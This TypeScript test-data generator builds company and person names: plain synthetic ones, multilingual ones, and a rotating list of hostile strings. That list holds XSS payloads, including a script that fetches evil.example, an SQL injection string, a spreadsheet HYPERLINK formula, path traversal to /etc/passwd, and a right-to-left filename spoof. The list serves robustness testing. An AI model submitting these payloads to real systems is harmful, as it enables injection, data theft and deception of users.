// Names that customers have: in several scripts, alike, long, and such that would do harm to whoever trusts them.

type Random = () => number;

// prettier-ignore
const starts: readonly string[] = [
  'Acorn', 'Beacon', 'Cascade', 'Drift', 'Ember', 'Foxglove', 'Granite', 'Harbor', 'Ironwood', 'Juniper', 'Kestrel', 'Lantern',
  'Meridian', 'Nimbus', 'Orchard', 'Pinnacle', 'Quarry', 'Ridgeway', 'Saffron', 'Timber', 'Umbra', 'Vantage', 'Willow', 'Zephyr',
];
// prettier-ignore
const middles: readonly string[] = [
  'Dental', 'Energy', 'Foods', 'Freight', 'Health', 'Insurance', 'Labs', 'Logistics', 'Media', 'Metals', 'Outdoor', 'Pharma',
  'Robotics', 'Schools', 'Software', 'Textiles', 'Travel', 'Water',
];
const ends: readonly string[] = ['Inc.', 'Ltd', 'LLC', 'Group', 'Co-op', '& Sons', 'Holdings', 'plc', ''];

// prettier-ignore
const elsewhere: readonly string[] = [
  'Müller & Söhne Maschinenbau GmbH', 'Société Générale des Eaux Claires', 'Smørrebrød Århus A/S', 'Łódzkie Zakłady Tkackie', 'Göteborgs Båtvarv AB',
  'Çağlayan İnşaat A.Ş.', 'Ελληνικά Τυροκομεία Α.Ε.', 'Северный Транспорт ООО', 'Київські Пекарні', 'Рудник „Црвени брег“',
  'شركة النور للتجارة', 'مخابز الصحراء', 'بانک آفتاب', 'מאפיית הגליל בע״מ', 'חברת המים (1998)',
  '東京精密工業株式会社', '株式会社さくら物流', '上海春风贸易有限公司', '台北數位科技', '서울제과 주식회사',
  'हिमालय चाय प्राइवेट लिमिटेड', 'தமிழ் நெசவாளர் கூட்டுறவு', 'บริษัท ข้าวหอม จำกัด', 'Công ty Cà phê Đà Lạt', 'ქართული ღვინო', 'Հայկական կոնյակ',
];

// prettier-ignore
const hostile: readonly string[] = [
  '<img src=x onerror=alert(1)>', '<script>fetch("//evil.example")</script>', '[click](command:workbench.action.terminal.new)', '$(bug) $(zap) Icons Ltd',
  '${workspaceFolder} & ${env:HOME}', "Robert'); DROP TABLE Accounts;--", '=HYPERLINK("http://evil.example","pay")', '../../etc/passwd', 'CON', 'name\u0000with\u0000nulls',
  'two\nlines\r\nand a\ttab', 'reversed \u202egnp.exe', 'zero\u200bwidth\u200djoin\ufeffed', 'a\u0301\u0323\u0302\u0308\u0316 Zalgo', '🏴‍☠️👩‍👩‍👧‍👦 Emoji ✨', '"quoted" \\back\\slashed\\', '%s %d %n', '{{constructor}}',
  '---', '.', '0', 'null', 'undefined', 'NaN', 'x'.repeat(240), '\u001b[31mred\u001b[0m',
];

const doubles: readonly string[] = ['Main Street Bakery', 'City Hospital', 'Test', 'ACME', 'Acme', 'acme ', 'Demo Org'];

function oneOf(list: readonly string[], random: Random): string {
  return list[Math.floor(random() * list.length)] ?? '';
}

/** One in so many names would do harm. */
const hostileEvery = 40;

/** The harmful name that stands at an index, each in its turn, so that a large list has them all. Undefined where a plain one does. */
export function hostileName(index: number): string | undefined {
  return index % hostileEvery === hostileEvery - 1
    ? hostile[Math.floor(index / hostileEvery) % hostile.length]
    : undefined;
}

export function generatedName(random: Random): string {
  const kind = random();
  if (kind < 0.03) {
    return oneOf(doubles, random);
  }
  if (kind < 0.18) {
    return oneOf(elsewhere, random);
  }
  return [oneOf(starts, random), oneOf(middles, random), oneOf(ends, random)].filter((part) => part !== '').join(' ');
}

// prettier-ignore
const people: readonly (readonly [first: string, last: string])[] = [
  ['Aiko', 'Tanaka'], ['Amélie', 'Laurent'], ['Anna', 'Nowak'], ['Chidi', 'Okonkwo'], ['Elif', 'Yılmaz'], ['Juan', 'García'], ['Lee', 'O’Brien'],
  ['محمد', 'الهاشمي'], ['נועה', 'לוי'], ['Олена', 'Шевченко'], ['王', '小明'], ['Priya', 'Iyer'], ['', 'Prince'], ['Nguyễn', 'Thị Minh'],
];

export function generatedPerson(random: Random): readonly [first: string, last: string] {
  return people[Math.floor(random() * people.length)] ?? ['', 'Prince'];
}
